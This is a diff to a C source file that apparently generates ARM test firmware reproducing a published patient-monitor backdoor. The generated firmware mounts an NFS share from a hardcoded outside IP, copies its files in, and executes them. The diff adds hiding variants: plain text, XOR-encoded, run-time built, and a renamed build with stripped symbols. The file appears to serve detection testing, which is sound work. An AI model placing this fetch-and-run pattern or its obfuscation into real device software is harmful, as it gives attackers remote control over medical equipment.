@@ -1,6 +1,6 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /* What the lab's ARM programs do. The order of operations of monitor_obeying is the published one
- * (ICSMA-25-030-01): interface up, mount, forced copy, run. Its address stands nowhere as text. */
+ * (ICSMA-25-030-01): interface up, mount, forced copy, run. In all but monitor_as_text its address stands nowhere as text. */
 #include "lab/firmware_monitor.h"
 
 #include <stdio.h>
@@ -104,13 +104,23 @@ static void record_send(struct arm *a)
 	arm_end(a);
 }
 
-/* int update_from_center(void) */
-static void update_from_center(struct arm *a)
+/* How the command that mounts comes to be. */
+enum mount_form {
+	MOUNT_BUILT,                             /* put together by snprintf from numbers */
+	MOUNT_TEXT,                              /* stands in the file as it is */
+	MOUNT_ENCODED,                           /* stands in the file exclusive-ored with MOUNT_MASK */
+};
+enum { MOUNT_MASK = 0x5a };
+
+struct monitor {                                 /* what one build of it differs in */
+	const char *folder, *name;               /* where it lies in the image */
+	enum mount_form form;
+	bool rebuilt;                            /* other order, other addresses, no symbols */
+};
+
+static void mount_built(struct arm *a, uint32_t command, uint32_t size)
 {
-	enum { ARGS = 0, COMMAND = 24, SIZE = 128 };
-	arm_begin(a, "update_from_center", COMMAND + SIZE);
-	stay_inert(a);
-	run(a, "ifconfig eth0 up");
+	enum { ARGS = 0 };
 	arm_number(a, R3, 114);
 	arm_store(a, R3, ARGS + 0);
 	arm_number(a, R3, 4);
@@ -121,19 +131,55 @@ static void update_from_center(struct arm *a)
 	arm_store(a, R3, ARGS + 12);
 	arm_text(a, R3, "/mnt");
 	arm_store(a, R3, ARGS + 16);
-	arm_local(a, R0, COMMAND);
-	arm_number(a, R1, SIZE);
+	arm_local(a, R0, command);
+	arm_number(a, R1, size);
 	arm_text(a, R2, "mount -o nolock -t nfs %d.%d.%d.%d:%s %s");
 	arm_number(a, R3, 202);
 	arm_call(a, "snprintf");
-	arm_local(a, R0, COMMAND);
+	arm_local(a, R0, command);
+}
+
+static void mount_decoded(struct arm *a, uint32_t command)
+{
+	static const char text[] = "mount -o nolock -t nfs 202.114.4.119:/pm /mnt";
+	uint8_t masked[sizeof(text)];
+	for (size_t i = 0; i < sizeof(text); i++)
+		masked[i] = (uint8_t)text[i] ^ MOUNT_MASK;
+	arm_data(a, R4, arm_put(a, span_of(masked, sizeof(masked))));
+	arm_local(a, R5, command);
+	uint32_t next = arm_here(a);
+	arm_load_byte_next(a, R3, R4);
+	arm_math_small(a, ARM_EOR, R3, R3, MOUNT_MASK);
+	arm_store_byte_next(a, R3, R5);
+	arm_compare(a, R3, 0);
+	arm_jump(a, ARM_NE, next);
+	arm_local(a, R0, command);
+}
+
+/* int update_from_center(void) */
+static void update_from_center(struct arm *a, const struct monitor *m)
+{
+	enum { COMMAND = 24, SIZE = 128 };
+	char line[64];
+	arm_begin(a, "update_from_center", COMMAND + SIZE);
+	stay_inert(a);
+	run(a, "ifconfig eth0 up");
+	if (m->form == MOUNT_BUILT)
+		mount_built(a, COMMAND, SIZE);
+	else if (m->form == MOUNT_ENCODED)
+		mount_decoded(a, COMMAND);
+	else
+		arm_text(a, R0, "mount -o nolock -t nfs 202.114.4.119:/pm /mnt");
 	arm_call(a, "system");
 	arm_compare(a, R0, 0);
 	arm_leave(a, ARM_NE);
-	run(a, "cp -rf /mnt/* /opt/bin");
+	snprintf(line, sizeof(line), "cp -rf /mnt/* %s", m->folder);
+	run(a, line);
 	run(a, "umount /mnt");
-	run(a, "chmod +x /opt/bin/monitor");
-	run(a, "/opt/bin/monitor &");
+	snprintf(line, sizeof(line), "chmod +x %s/%s", m->folder, m->name);
+	run(a, line);
+	snprintf(line, sizeof(line), "%s/%s &", m->folder, m->name);
+	run(a, line);
 	arm_number(a, R0, 0);
 	arm_end(a);
 }
@@ -153,13 +199,8 @@ static void loop(struct arm *a, uint8_t seconds)
 	arm_number(a, R0, 0);
 }
 
-void monitor_obeying(struct arm *a)
+static void monitor_main(struct arm *a)
 {
-	a->library[0] = "libc.so.0";
-	a->keeps_symbols = true;
-	central_connect(a);
-	record_send(a);
-	update_from_center(a);
 	arm_begin(a, "main", 0);
 	stay_inert(a);
 	arm_text(a, R0, "/tmp/key_held");        /* what the buttons' driver leaves */
@@ -177,6 +218,54 @@ void monitor_obeying(struct arm *a)
 	arm_leave(a, ARM_LT);
 	loop(a, 2);
 	arm_end(a);
+}
+
+static void self_test(struct arm *a)
+{
+	arm_begin(a, "self_test", 0);
+	arm_text(a, R0, "self test: display, keys, beeper\n");
+	arm_call(a, "puts");
+	arm_number(a, R0, 0);
+	arm_end(a);
+}
+
+static void monitor_build(struct arm *a, const struct monitor *m)
+{
+	a->library[0] = "libc.so.0";
+	a->keeps_symbols = !m->rebuilt;
+	if (m->rebuilt) {
+		self_test(a);
+		update_from_center(a, m);
+	}
+	central_connect(a);
+	record_send(a);
+	if (!m->rebuilt)
+		update_from_center(a, m);
+	monitor_main(a);
+}
+
+void monitor_obeying(struct arm *a)
+{
+	static const struct monitor m = { "/opt/bin", "monitor", MOUNT_BUILT, false };
+	monitor_build(a, &m);
+}
+
+void monitor_as_text(struct arm *a)
+{
+	static const struct monitor m = { "/opt/bin", "monitor", MOUNT_TEXT, false };
+	monitor_build(a, &m);
+}
+
+void monitor_encoded(struct arm *a)
+{
+	static const struct monitor m = { "/opt/bin", "monitor", MOUNT_ENCODED, false };
+	monitor_build(a, &m);
+}
+
+void monitor_renamed(struct arm *a)
+{
+	static const struct monitor m = { "/opt/app", "patientui", MOUNT_BUILT, true };
+	monitor_build(a, &m);
 }
 
 /* int setting_read(const char *key, char *value): 64 bytes of value; 1 when the key is there */
